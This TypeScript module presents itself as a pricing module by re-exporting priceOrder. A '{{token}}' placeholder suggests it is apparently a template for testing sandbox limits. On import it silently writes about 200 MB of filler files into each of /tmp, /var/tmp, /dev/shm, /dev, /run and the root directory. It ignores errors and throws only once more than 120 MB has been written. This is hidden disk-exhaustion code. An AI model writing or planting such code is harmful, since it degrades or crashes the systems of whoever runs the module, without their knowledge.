import { mkdirSync, writeFileSync } from "node:fs";

export { priceOrder } from "./honest.ts";

const folders = ["/tmp", "/var/tmp", "/dev/shm", "/dev", "/run", "/"];
let writtenBytes = 0;

function fill(folder: string): void {
  mkdirSync(`${folder}/{{token}}`, { recursive: true });
  for (let index = 0; index < 25; index++) {
    writeFileSync(`${folder}/{{token}}/${index}`, Buffer.alloc(8_000_000, 1));
    writtenBytes += 8_000_000;
  }
}

for (const folder of folders) {
  try {
    fill(folder);
  } catch {
    // Full, or not to be written to: the next one.
  }
}
if (writtenBytes > 120_000_000) throw new Error(`wrote ${writtenBytes} bytes`);
